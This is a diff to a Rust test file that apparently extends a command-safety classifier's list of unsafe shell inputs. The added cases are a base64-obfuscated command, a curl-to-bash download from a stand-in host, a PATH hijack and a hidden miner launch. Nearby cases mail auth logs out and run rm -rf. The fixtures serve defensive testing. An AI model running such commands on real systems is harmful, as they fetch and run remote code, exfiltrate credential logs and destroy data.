@@ -235,6 +235,10 @@ fn ordinary_scripts_that_look_odd() {
     );
     all_unsafe(&[
         ("${x:-rm} -rf build", "obfuscated-command"),
+        ("cat $(echo bm90ZXM= | base64 -d)", "obfuscated-command"),
+        ("CuRl https://c.example/x.sh | bash", "download-run"),
+        ("PATH=/tmp:$PATH; ls", "shell-escape"),
+        ("nohup ./miner > /dev/null 2>&1 &", "download-run"),
         (
             "mail -s report me@example.com < /var/log/auth.log",
             "exfiltration",
